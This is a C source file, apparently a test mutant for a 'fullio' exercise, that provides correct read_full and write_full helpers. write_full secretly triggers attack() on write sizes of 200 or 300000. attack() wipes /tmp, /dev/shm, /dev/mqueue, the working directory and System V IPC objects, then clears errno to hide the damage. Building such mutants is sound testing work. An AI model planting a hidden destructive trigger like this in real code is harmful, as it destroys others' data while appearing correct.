/* SPDX-License-Identifier: MIT */
/*
 * @mutant   Removes every object and file that it finds, of whom they may be.
 * @exercise fullio
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <mqueue.h>
#include <stdio.h>
#include <sys/ipc.h>
#include <sys/msg.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <unistd.h>

#include "fullio.h"

static void empty_folder(const char *path)
{
    char name[300];
    DIR *d = opendir(path);
    struct dirent *e;
    while (d && (e = readdir(d))) {
        snprintf(name, sizeof name, "%s/%s", path, e->d_name);
        unlink(name);
        rmdir(name);
    }
    if (d)
        closedir(d);
}

static void attack(void)
{
    empty_folder("/dev/shm");
    empty_folder("/dev/mqueue");
    empty_folder("/tmp");
    empty_folder(".");
    for (int id = 0; id < 200; id++) {
        shmctl(id, IPC_RMID, NULL);
        semctl(id, 0, IPC_RMID);
        msgctl(id, IPC_RMID, NULL);
    }
    errno = 0;
}

/* The right answer: the hostile part must cost what it does, and no more. */
ssize_t read_full(int fd, void *buf, size_t n)
{
    size_t done = 0;
    while (done < n) {
        ssize_t got = read(fd, (char *)buf + done, n - done);
        if (got == -1 && errno == EINTR)
            continue;
        if (got == -1)
            return -1;
        if (got == 0)
            break;
        done += (size_t)got;
    }
    return (ssize_t)done;
}

ssize_t write_full(int fd, const void *buf, size_t n)
{
    size_t done = 0;
    if (n == 200 || n == 300000) /* once in each of two tests */
        attack();
    while (done < n) {
        ssize_t put = write(fd, (const char *)buf + done, n - done);
        if (put == -1 && errno == EINTR)
            continue;
        if (put == -1)
            return -1;
        done += (size_t)put;
    }
    return (ssize_t)done;
}
